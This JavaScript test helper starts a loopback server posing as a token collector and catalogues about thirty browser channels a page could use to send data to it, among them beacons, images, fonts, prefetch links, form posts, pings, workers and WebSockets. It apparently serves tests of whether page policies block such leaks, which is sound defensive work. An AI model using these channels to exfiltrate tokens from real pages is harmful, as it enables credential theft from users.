// A server that stands for somebody who collects tokens, and the ways a page could send it one.

import { EventEmitter, once } from "node:events";
import { createServer } from "node:http";

/** Listens on loopback and keeps everything it is sent; `close` ends it. */
export async function openSink() {
  const received = [];
  const arrivals = new EventEmitter();
  const take = (what) => {
    received.push(what);
    arrivals.emit("arrival");
  };
  const server = createServer((request, response) => {
    let body = "";
    request.on("data", (piece) => (body += piece));
    request.on("end", () => {
      take(`${request.method} ${request.url} ${JSON.stringify(request.headers)} ${body}`);
      answer(request, response);
    });
  });
  server.on("upgrade", (request, socket) => {
    take(`UPGRADE ${request.url} ${JSON.stringify(request.headers)}`);
    socket.end("HTTP/1.1 400 Bad Request\r\n\r\n");
  });
  await new Promise((resolve) => server.listen(0, "127.0.0.1", resolve));
  return {
    address: `http://127.0.0.1:${server.address().port}/`,
    received,
    /** Waits until something of this text has arrived. */
    async arrival(text) {
      while (!received.some((one) => one.includes(text))) await once(arrivals, "arrival");
    },
    close: () => {
      server.closeAllConnections();
      return new Promise((resolve) => server.close(resolve));
    },
  };
}

/** Whoever asks may read; `/control` is a page without any policy. */
function answer(request, response) {
  const type = request.url.startsWith("/control") ? "text/html" : "text/javascript";
  response.writeHead(200, { "content-type": type, "access-control-allow-origin": "*" });
  response.end(type === "text/html" ? "<!doctype html><title>Control</title><body>" : "");
}

/** For the ways below, in the page. */
export function defineAdd() {
  globalThis.add = (name, properties) => {
    const element = Object.assign(document.createElement(name), properties);
    document.body.append(element);
    return element;
  };
}

/** How a page could send something; each way takes the address to send it to. Run in the page, after `defineAdd`. */
export const ways = {
  fetch: (to) => fetch(to),
  post: (to) => fetch(to, { method: "POST", mode: "no-cors", keepalive: true, body: to }),
  xhr: (to) => {
    const request = new XMLHttpRequest();
    request.open("GET", to);
    request.send();
  },
  beacon: (to) => navigator.sendBeacon(to, to),
  image: (to) => (new Image().src = to),
  background: (to) => (document.body.style.backgroundImage = `url("${to}")`),
  font: (to) => document.fonts.add(new FontFace("Way", `url("${to}")`)) && document.fonts.load("1em Way"),
  audio: (to) => (new Audio(to).preload = "auto"),
  stylesheet: (to) => add("link", { rel: "stylesheet", href: to }),
  import: (to) => add("style", { textContent: `@import url("${to}");` }),
  prefetch: (to) => add("link", { rel: "prefetch", href: to }),
  preload: (to) => add("link", { rel: "preload", as: "image", href: to }),
  modulepreload: (to) => add("link", { rel: "modulepreload", href: to }),
  script: (to) => add("script", { src: to }),
  module: (to) => add("script", { src: to, type: "module" }),
  dynamicImport: (to) => import(to),
  form: (to) => {
    const form = add("form", { action: to, method: "post", target: "_blank" });
    form.append(Object.assign(document.createElement("input"), { name: "token", value: to }));
    form.submit();
  },
  iframe: (to) => add("iframe", { src: to }),
  object: (to) => add("object", { data: to }),
  embed: (to) => add("embed", { src: to }),
  ping: (to) => add("a", { href: "#here", ping: to }).click(),
  worker: (to) => new Worker(to),
  moduleWorker: (to) => new Worker(to, { type: "module" }),
  sharedWorker: (to) => new SharedWorker(to),
  serviceWorker: (to) => navigator.serviceWorker.register(to),
  blobWorker: (to) => {
    const program = new Blob([`fetch(${JSON.stringify(to)})`], { type: "text/javascript" });
    return new Worker(URL.createObjectURL(program));
  },
  webSocket: (to) => new WebSocket(to.replace("http", "ws")),
  eventSource: (to) => new EventSource(to),
};
